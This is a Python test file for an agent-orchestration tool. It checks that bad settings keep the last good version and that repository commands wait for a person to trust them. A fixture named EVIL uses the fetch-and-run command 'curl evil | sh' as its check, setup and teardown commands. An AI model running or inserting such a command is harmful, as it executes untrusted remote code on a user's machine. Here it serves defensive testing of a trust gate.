"""Settings and trust: a bad edit keeps the last good version, and no command runs that nobody said yes to."""

from andon.core.pending import pending
from andon.core.refuse import refuse
from andon.core.state import State
from andon.schema import effects as f, events as e, inputs as i
from andon.schema.errors import Problem
from andon.schema.ids import AttemptId, Digest, Oid, RepoId
from andon.schema.settings import AgentSettings, Check, Checkout, FactorySettings, Line, Loaded, Station
from core.playbook import Given, like, nothing
from core.sim import Sim, loaded, settings

R = RepoId("r0")
A = AttemptId("T1.1")
EVIL = settings(checks={"tests": Check(name="tests", run="curl evil | sh", report="junit")},
                checkout=Checkout(setup=("curl evil | sh",), teardown=("curl evil | sh",)))
BAD = Problem(what="andon.toml is not TOML", where="andon.toml:3", mend="close the bracket")


def seen(loaded_: Loaded, repo: RepoId = R) -> i.SettingsSeen:
    return i.SettingsSeen(repo=repo, loaded=loaded_)


def test_a_bad_edit_keeps_the_last_good_settings_and_says_so_once() -> None:
    sim = Sim()
    good = sim.state.repos[R]
    assert (
        Given.after(sim)
        >> i.SettingsBad(repo=R, problem=BAD) << like(e.ProblemNoticed, key="settings:r0", what=BAD.what, mend=BAD.mend)
        >> i.SettingsBad(repo=R, problem=BAD) << nothing
        >> seen(loaded(settings())) << e.ProblemCleared(key="settings:r0")
        >> seen(loaded(settings())) << nothing
    )
    sim.give(i.SettingsBad(repo=R, problem=BAD))
    assert sim.state.repos[R] == good


def test_a_bad_file_of_the_person_is_a_problem_of_the_factory() -> None:
    sim = Sim()
    sim.give(i.SettingsBad(repo=RepoId(""), problem=BAD))
    assert "settings:" in sim.state.problems
    two = FactorySettings(wip=2)
    assert sim.give(i.PersonSettingsSeen(settings=two))[0] == e.FactoryConfigured(settings=two)
    assert "settings:" not in sim.state.problems
    assert not sim.give(i.PersonSettingsSeen(settings=two))


def test_nothing_runs_before_a_person_trusted_the_commands() -> None:
    told = loaded(settings())
    start = i.RepositorySeen(repo=R, path="/r", git_dir="/r/.git", by="me", loaded=told, trust=False, target=Oid("a" * 40),
                             tree=Oid("b" * 40))
    assert (
        Given()
        >> start << like(e.RepositoryRegistered) << like(e.SettingsActivated) << like(e.TargetObserved) << like(f.MirrorTarget)
        >> i.AddTask(repo=R, title="a", spec="a") << like(e.TaskAdded)
        >> i.TrustCommands(repo=R, commands=Digest("of others"), by="me") << nothing
        >> i.TrustCommands(repo=R, commands=told.commands, by="me") << like(e.CommandsTrusted) << like(e.TaskEntered)
        << like(e.AttemptClaimed) << like(f.PrepareCheckout)
        >> i.TrustCommands(repo=R, commands=told.commands, by="me") << nothing
    )


def test_an_untrusted_task_says_how_to_trust() -> None:
    sim = Sim()
    sim.give(seen(loaded(EVIL)))
    sim.add()
    assert sim.why() == ("the commands of r0 are not trusted yet: andon trust r0",)


def test_changed_commands_are_a_problem_until_they_are_trusted_or_taken_back() -> None:
    sim = Sim()
    assert (
        Given.after(sim)
        >> seen(loaded(EVIL)) << like(e.SettingsActivated) << like(e.GateLoosened) << like(e.ProblemNoticed, key="loosened:r0")
        << like(e.ProblemNoticed, key="trust:r0")
        >> seen(loaded(EVIL)) << nothing
        >> i.TrustCommands(repo=R, commands=loaded(EVIL).commands) << like(e.CommandsTrusted) << e.ProblemCleared(key="trust:r0")
        >> seen(loaded(settings())) << like(e.SettingsActivated) << e.ProblemCleared(key="loosened:r0")
        << like(e.ProblemNoticed, key="trust:r0")
        >> seen(loaded(EVIL)) << like(e.SettingsActivated) << like(e.GateLoosened) << like(e.ProblemNoticed, key="loosened:r0")
        << e.ProblemCleared(key="trust:r0")
    )


def untrusted_at(kind: type[f.Effect]) -> Sim:
    """A factory that owed this deed when its commands were changed to ones that nobody trusts."""
    sim = Sim()
    sim.add()
    sim.until(kind)
    sim.give(seen(loaded(EVIL)))
    return sim


def owes(sim: Sim, kind: type[f.Effect]) -> list[f.Effect]:
    return [effect for effect in pending(sim.state, sim.now) if isinstance(effect, kind)]


def test_changed_commands_stop_setup_agent_checks_and_teardown_of_work_under_way() -> None:
    for kind in (f.PrepareCheckout, f.StartSession, f.RunCheck):
        sim = untrusted_at(kind)
        assert not owes(sim, kind), kind
        assert any("not trusted" in reason for reason in sim.why()), kind
        sim.give(i.TrustCommands(repo=R, commands=loaded(EVIL).commands))
        assert owes(sim, kind), kind
    remove = owes(untrusted_at(f.RemoveCheckout), f.RemoveCheckout)[0]
    assert isinstance(remove, f.RemoveCheckout)
    assert remove.checkout.teardown == (), "the checkout goes, without the command"


def test_nothing_lands_while_the_commands_are_not_trusted() -> None:
    sim = untrusted_at(f.MergeCandidate)
    sim.do(f.MergeCandidate)
    assert not owes(sim, f.RunCheck) and not owes(sim, f.MoveTarget)
    assert sim.why()


def test_an_agent_that_is_no_longer_configured_is_named_before_and_after_the_claim() -> None:
    sim = Sim()
    sim.add()
    sim.until(f.StartSession)
    other = settings(agents={"claude": AgentSettings(name="claude", use="scripted")})
    sim.give(seen(loaded(other)))
    sim.give(i.TrustCommands(repo=R, commands=loaded(other).commands))
    sim.add("second")
    assert not owes(sim, f.StartSession)
    assert sim.why("T1") == sim.why("T2") == ("agent default is not in the settings of r0",)


def test_a_task_whose_line_was_taken_out_of_the_settings_says_so() -> None:
    sim = Sim()
    sim.add()
    while not sim.task().work:
        sim.step()
    line = settings().lines["build"]
    sim.give(seen(loaded(settings(lines={"other": Line(name="other", stations=line.stations)}))))
    sim.run()
    assert sim.why() == ("line build is not in the settings of r0",)
    sim.give(seen(loaded(settings())))
    sim.run()
    assert sim.task().outcome == "done"


def test_a_task_at_a_station_that_was_renamed_walks_its_line_again_with_its_change() -> None:
    sim = Sim()
    sim.add()
    while not sim.task().work:
        sim.step()
    renamed = tuple(Station(name=f"new-{station.name}", kind=station.kind) for station in settings().lines["build"].stations)
    sim.give(seen(loaded(settings(lines={"build": Line(name="build", stations=renamed)}))))
    sim.run()
    assert (sim.task().outcome, len(sim.task().attempts)) == ("done", 1)


def test_settings_of_an_unknown_repository_change_nothing() -> None:
    assert Given() >> seen(loaded(settings())) << nothing


def test_a_repository_that_is_seen_again_says_only_what_changed() -> None:
    sim = Sim()
    again = i.RepositorySeen(repo=R, path="/r0", git_dir="/r0/.git", by="me", loaded=loaded(settings()), trust=True,
                             target=sim.trunk[R], tree=Oid("t"))
    moved = i.RepositorySeen(repo=R, path="/moved", git_dir="/moved/.git", by="me", loaded=loaded(settings(wip=1)), trust=False,
                             target=Oid("f" * 40), tree=Oid("t"))
    assert (
        Given.after(sim) >> again << nothing
        >> moved << like(e.RepositoryRegistered, path="/moved") << like(e.SettingsActivated)
        << like(e.TargetObserved, oid="f" * 40, by="start") << like(f.MirrorTarget, path="/moved")
    )


def test_trust_is_refused_for_other_commands_than_those_in_force() -> None:
    sim = Sim()
    problem = refuse(sim.state, i.TrustCommands(repo=R, commands=Digest("x")))
    assert problem is not None and "others than you were shown" in problem.what
    assert refuse(State(), i.TrustCommands(repo=R, commands=Digest("x"))) is not None


def test_troubles_of_the_factory_are_noticed_once_and_go() -> None:
    trouble = i.TroubleSeen(key="tmux", problem=BAD)
    assert (
        Given() >> trouble << like(e.ProblemNoticed, key="tmux") >> trouble << nothing
        >> i.TroubleSeen(key="tmux", problem=Problem(what="other")) << like(e.ProblemNoticed, what="other")
        >> i.TroubleGone(key="tmux") << e.ProblemCleared(key="tmux") >> i.TroubleGone(key="tmux") << nothing
    )


def test_the_start_and_the_end_of_a_daemon_are_recorded() -> None:
    assert (
        Given() >> i.DaemonStarted(version="1", pid=7, boot="b") << e.FactoryStarted(version="1", pid=7, boot="b")
        >> i.DaemonStopping(because="andon down") << e.FactoryStopped(because="andon down")
    )
